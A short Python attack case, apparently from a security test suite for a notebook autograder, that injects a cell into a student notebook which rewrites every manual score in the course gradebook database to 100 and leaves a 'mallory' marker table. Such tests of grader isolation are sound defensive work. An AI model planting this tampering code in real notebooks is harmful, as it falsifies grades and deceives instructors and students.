"""Gives everybody 100 points in the gradebook."""

from grader.attacks import course, insert

STOCK = "changed marks in the gradebook"


def cell(root):
    import sqlite3

    with sqlite3.connect(f"file:{root}/gradebook.db?mode=rw", uri=True) as db:
        db.execute("update grade set manual_score = 100")
        db.execute("create table mallory (was_here text)")


def attack(nb, folder):
    insert(nb, cell, root=str(course(folder)))
